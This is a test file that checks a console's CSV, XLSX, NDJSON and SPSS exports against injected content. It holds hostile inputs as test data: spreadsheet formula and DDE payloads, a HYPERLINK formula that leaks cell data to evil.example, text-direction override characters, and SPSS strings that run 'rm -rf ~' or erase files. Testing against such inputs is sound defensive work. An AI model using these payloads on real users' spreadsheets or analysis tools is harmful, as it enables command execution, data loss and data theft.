import ExcelJS from 'exceljs'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { parseCsv } from '../support/parse-csv.ts'
import { readXlsx } from '../support/read-xlsx.ts'
import { aProgrammeFullOf } from '../support/hostile-programme.ts'
import { ADMIN_ENVIRONMENT, startTestServer } from '../support/test-server.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'

/** What a spreadsheet may take for a formula, or may be made to: OWASP's list, DDE, and ways out of a cell. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
  'Tạp hóa";=1+1;"',
  'Tạp hóa",=1+1,"',
  'Tạp hóa;=1+1',
  'Tạp hóa; "=1+1"',
  'Tạp hóa;＝1+1',
  'Tạp hóa;＠SUM(1+1)',
  'Tạp hóa\t@SUM(1+1)',
  'Tạp hóa\n=1+1',
  'Tạp hóa\r\n"+1+1"',
  'Tạp hóa\r-1+1',
] as const

const isNumber = (cell: string): boolean => /^-?\d+(?:[.,]\d+)?$/.test(cell)
const isFormula = (cell: string): boolean => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !isNumber(cell)

/**
 * The cells a spreadsheet makes of a file when it cuts at `separator`, whatever the file was cut at when written: quotes
 * count where a cell begins, and nowhere else. A computer set to Vietnamese cuts at `;`.
 */
function cellsCutAt(separator: string, text: string): string[] {
  const cells: string[] = []
  const ends = new RegExp(`${separator}|\\r\\n|\\r|\\n|$`, 'g')
  let at = 0
  while (at < text.length) {
    const [quoted = ''] = text[at] === '"' ? (/^"(?:[^"]|"")*"?/.exec(text.slice(at)) ?? []) : []
    ends.lastIndex = at + quoted.length
    const end = ends.exec(text)
    const endsAt = end?.index ?? text.length
    const inside = quoted === '' ? '' : quoted.slice(1, quoted.endsWith('"') ? -1 : undefined)
    cells.push(inside.replaceAll('""', '"') + text.slice(at + quoted.length, endsAt))
    at = endsAt + Math.max(1, end?.[0].length ?? 1)
  }
  return cells
}

/** Every file of text cells the console gives out. */
const FILES = [
  '/api/v1/exports/submissions.csv?personal=1',
  '/api/v1/exports/submissions.csv?personal=1&form=codes&lang=en',
  '/api/v1/exports/submissions.csv?shape=long',
  '/api/v1/exports/codebook.csv',
  '/api/v1/staff/audit.csv',
  '/api/v1/staff/cases/summary.csv',
  '/api/v1/staff/cases/list.csv?personal=1&state=any',
  '/api/v1/staff/privacy/register.csv',
]

describe('a text that a spreadsheet would take for a formula', () => {
  it('is text in every CSV, also where it is cut at semicolons or tabs', async () => {
    const { ask } = await aProgrammeFullOf(FORMULAS)
    // What is searched for is written down, and can be taken away with the log.
    for (const formula of FORMULAS) {
      const search = encodeURIComponent(formula)
      await ask('GET', `/api/v1/exports/submissions.csv?search=${search}`)
    }
    const seen = new Map<string, string>()
    for (const file of FILES) {
      const response = await ask('GET', file)
      expect([file, response.status]).toEqual([file, 200])
      const text = new TextDecoder('utf-8').decode(await response.arrayBuffer())
      seen.set(file, text)
      expect([file, parseCsv(text).flat().filter(isFormula)]).toEqual([file, []])
      for (const separator of [',', ';', '\t'])
        expect([file, separator, cellsCutAt(separator, text).filter(isFormula)]).toEqual([
          file,
          separator,
          [],
        ])
    }
    // The texts were there to be taken for something.
    const names = parseCsv(seen.get(FILES[0] ?? '') ?? '').flat()
    expect(names).toContain("'=1+1")
    expect(names).toContain("Tạp hóa;'=1+1")
    expect(names.filter((cell) => cell.includes('Tạp hóa')).length).toBeGreaterThan(30)
    expect(seen.get('/api/v1/staff/audit.csv')).toContain('SUM(1+1)')
  })

  it('is a string in every XLSX, as it was written', async () => {
    const { ask } = await aProgrammeFullOf(FORMULAS)
    for (const query of ['personal=1', 'personal=1&form=codes&lang=en', 'shape=long']) {
      const response = await ask('GET', `/api/v1/exports/submissions.xlsx?${query}`)
      const bytes = await response.arrayBuffer()
      // Names of the parts stand in a zip as they are.
      expect(Buffer.from(bytes).includes('externalLink')).toBe(false)
      const { workbook, rowsOf } = await readXlsx(bytes)
      const kinds = new Set<ExcelJS.ValueType>()
      for (const sheet of workbook.worksheets)
        sheet.eachRow((row) => row.eachCell((cell) => kinds.add(cell.type)))
      const { String, Number, Date } = ExcelJS.ValueType
      expect([...kinds].filter((kind) => ![String, Number, Date].includes(kind))).toEqual([])
      if (query === 'shape=long') continue
      const cells = new Set(rowsOf(0).flat())
      for (const formula of FORMULAS)
        expect([formula, cells.has(formula.replaceAll(/\r\n?/g, '\n'))]).toEqual([formula, true])
    }
  })

  it('is as it was written in NDJSON, one object a line', async () => {
    const { ask } = await aProgrammeFullOf(FORMULAS)
    const response = await ask('GET', '/api/v1/exports/submissions.ndjson?personal=1')
    const lines = (await response.text()).trimEnd().split('\n')
    expect(lines).toHaveLength(FORMULAS.length)
    const cells = new Set(lines.flatMap((line) => Object.values(JSON.parse(line) as object)))
    for (const formula of FORMULAS) expect([formula, cells.has(formula)]).toEqual([formula, true])
  })
})

/** What has the writing behind it turned round: alone, round a number, and before a formula. */
const TURNED = [
  '\u202Exslx.nêt',
  'Gọi \u202E7654321090\u202C nhé',
  '\u2066=1+1',
  'Tạp hóa;\u202D@SUM(1+1)\u2069',
  '\u202A\u202B\u2067\u2068Quán',
] as const
const TURNING = /[\u202A-\u202E\u2066-\u2069]/g

describe('a text that turns the writing behind it round', () => {
  it('is in the order it was written in every CSV, and no formula for that', async () => {
    const { ask } = await aProgrammeFullOf(TURNED)
    for (const text of TURNED)
      await ask('GET', `/api/v1/exports/submissions.csv?search=${encodeURIComponent(text)}`)
    for (const file of FILES) {
      const text = await (await ask('GET', file)).text()
      expect([file, text.match(TURNING)]).toEqual([file, null])
      expect([file, parseCsv(text).flat().filter(isFormula)]).toEqual([file, []])
      for (const separator of [',', ';', '\t'])
        expect([file, cellsCutAt(separator, text).filter(isFormula)]).toEqual([file, []])
    }
    const names = parseCsv(await (await ask('GET', FILES[0] ?? '')).text()).flat()
    expect(names).toContain('Gọi 7654321090 nhé')
    expect(names).toContain("'=1+1")
  })

  it('is in the order it was written in XLSX, and as it was sent in NDJSON', async () => {
    const { ask } = await aProgrammeFullOf(TURNED)
    const file = await ask('GET', '/api/v1/exports/submissions.xlsx?personal=1')
    const { rowsOf } = await readXlsx(await file.arrayBuffer())
    const cells = new Set(rowsOf(0).flat())
    const lines = await (await ask('GET', '/api/v1/exports/submissions.ndjson?personal=1')).text()
    for (const text of TURNED) {
      expect([text, cells.has(text.replaceAll(TURNING, ''))]).toEqual([text, true])
      expect([text, cells.has(text)]).toEqual([text, false])
      expect([text, lines.includes(text)]).toEqual([text, true])
    }
  })
})

describe('a wording that SPSS would take for a command', () => {
  it('stays in its quotes on its line, whatever an operator’s folder says', async () => {
    const folder = temporaryFolder()
    mkdirSync(join(folder, 'locales/vi'), { recursive: true })
    const commands = [
      "'.\nHOST COMMAND=['rm -rf ~'].\n'",
      "''.\r\nERASE FILE='x'.",
      "\u0085'\u2028.\u2029EXECUTE.",
      "\\'.",
    ]
    const places = Object.fromEntries(
      commands.map((text, index) => [['01', '48', '79', '92'][index], text]),
    )
    writeFileSync(join(folder, 'locales/vi/places.json'), JSON.stringify(places))
    const server = await startTestServer({
      environment: { ...ADMIN_ENVIRONMENT, CONTENT_DIR: folder },
    })
    const cookie = await server.signIn()
    const syntax = await (await server.get('/api/v1/exports/codebook.sps', cookie)).text()
    expect(syntax).toContain('HOST COMMAND')
    // Every line is a command of ours, or a name with its format, or names and texts in quotes.
    const text = "'(?:[^'\\p{Cc}\\u2028\\u2029]|'')*'"
    const line = new RegExp(
      `^(?:\\* [^\\p{Cc}]+\\.|GET DATA|  /[A-Z]+=(?:\\w+|${text})?|  \\w+ [AF][\\d.]+|EXECUTE\\.|MISSING VALUES \\w+ \\(' '\\)\\.|VARIABLE LABELS|VALUE LABELS \\w+|  (?:\\w+|${text}) ${text}\\.?|)$`,
      'u',
    )
    expect(syntax.split(/[\n\r\u0085\u2028\u2029]/).filter((each) => !line.test(each))).toEqual([])
  })
})
